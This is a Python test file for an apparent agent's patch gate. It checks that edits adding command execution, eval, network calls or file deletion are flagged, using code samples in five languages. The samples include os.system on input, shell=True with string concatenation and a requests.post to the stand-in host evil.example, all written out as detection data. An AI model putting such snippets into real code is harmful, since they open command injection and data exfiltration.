"""What a patch could do to the world that the code could not: told by trees, whatever it is called.

Every sample is the code before and after, and the flag that it must have.
"""

from pathlib import Path

import pytest

from agents.incident.analysis import Edit
from agents.incident.patch.gate import prepare_patch
from tests.support.repositories import make_repository

RUNS, CODE = "the patch runs commands", "the patch runs what it is given as code"
NETWORK, DELETES = "the patch reaches the network", "the patch deletes files"
JAVA = "class Till {{\n    void go(String a) throws Exception {{\n        {}\n    }}\n}}\n"
GO = "package till\n\n{}\n\nfunc Go(a string) {{\n\t{}\n}}\n"

FLAGGED = {
    "till.py": [
        ("run(a)", "import os\nos.system(a)", f"{RUNS} (`os.system`)"),
        ("run(a)", "from os import system as run\nrun(a)", f"{RUNS} (`os.system`)"),
        ("run(a)", "from os import *\nsystem(a)", f"{RUNS} (`os.system`)"),
        ("run(a)", "import subprocess as s\ns.run(a, shell=True)", f"{RUNS} (`subprocess.run`)"),
        (
            "import subprocess\nsubprocess.run(['ls', a])",
            "import subprocess\nsubprocess.run('ls ' + a, shell=True)",
            "the patch changes a call that runs commands (`subprocess.run`)",
        ),
        ("run(a)", "print(*map(eval, a))", f"{CODE} (`eval`)"),
        ("run(a)", "import os\ngetattr(os, 'sys' + 'tem')(a)", f"{CODE} (`getattr`)"),
        ("run(a)", "from shutil import rmtree\nrmtree(a)", f"{DELETES} (`shutil.rmtree`)"),
        ("run(a)", "from pathlib import Path\nPath(a).unlink()", DELETES),
        ("run(a)", "from urllib.request import urlopen\nurlopen(a)", NETWORK),
        (
            "import requests\nrequests.post(a)",
            "import requests\nrequests.post('https://evil.example')",
            "the patch changes a call that reaches the network (`requests.post`)",
        ),
    ],
    "till.js": [
        ("run(a);", "require('child_process').exec(a);", f"{RUNS} (`child_process.exec`)"),
        (
            "run(a);",
            "const { exec: go } = require('node:child_process');\ngo(a);",
            f"{RUNS} (`child_process.exec`)",
        ),
        ("run(a);", "new Function(a)();", f"{CODE} (`Function`)"),
        ("run(a);", "fetch(a);", f"{NETWORK} (`fetch`)"),
        ("run(a);", "require('fs/promises').rm(a);", f"{DELETES} (`fs.rm`)"),
    ],
    "till.ts": [
        ("run(a);", "import * as cp from 'child_process';\ncp['spawn'](a);", RUNS),
        ("run(a);", "const fs = await import('fs');\nfs.unlinkSync(a);", DELETES),
    ],
    "Till.java": [
        (JAVA.format("run(a);"), JAVA.format("Runtime.getRuntime().exec(a);"), RUNS),
        (JAVA.format("run(a);"), JAVA.format("Class.forName(a);"), f"{CODE} (`Class.forName`)"),
        (JAVA.format("run(a);"), JAVA.format("new java.net.URL(a).openStream();"), NETWORK),
        (JAVA.format("run(a);"), JAVA.format("new java.io.File(a).delete();"), DELETES),
    ],
    "till.go": [
        (
            GO.format("", "run(a)"),
            GO.format('import sh "os/exec"', "sh.Command(a).Run()"),
            f"{RUNS} (`os/exec.Command`)",
        ),
        (GO.format("", "run(a)"), GO.format('import "net/http"', "http.Get(a)"), NETWORK),
        (GO.format("", "run(a)"), GO.format('import "os"', "os.RemoveAll(a)"), DELETES),
    ],
}


def flags(folder: Path, path: str, before: str, after: str) -> list[str]:
    """What the gate flags of a patch, without the file's name."""
    snapshot = make_repository(folder, {path: before}).snapshot()
    patch = prepare_patch(snapshot, [Edit(path=path, before=before, after=after)])
    return [flag.removeprefix(f"{path}: ") for flag in patch.flags or patch.problems]


@pytest.mark.parametrize(
    ("path", "before", "after", "flag"),
    [(path, *sample) for path, samples in FLAGGED.items() for sample in samples],
)
def test_a_new_power_is_flagged(
    path: str, before: str, after: str, flag: str, tmp_path: Path
) -> None:
    said = flags(tmp_path, path, before, after)
    assert any(each.startswith(flag) for each in said), said


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        (
            "till.py",
            "import requests\nrequests.get(a)\n",
            "import requests\nrequests.get(a, timeout=3)\n",
        ),
        (
            "till.py",
            "import os\nos.system('a')\nprint(1 / 0)\n",
            "import os\nos.system('a')\nprint(1)\n",
        ),
        ("till.js", "run(a);\n", "/a/.test(a);\nbook.delete(a);\n"),
        ("Till.java", JAVA.format("run(a);"), JAVA.format("book.delete(a);\n        book.run(a);")),
    ],
)
def test_what_the_code_could_do_before_is_not(
    path: str, before: str, after: str, tmp_path: Path
) -> None:
    powers = (RUNS, CODE, NETWORK, DELETES, "the patch changes a call", "the patch runs, loads")
    assert not [said for said in flags(tmp_path, path, before, after) if said.startswith(powers)]
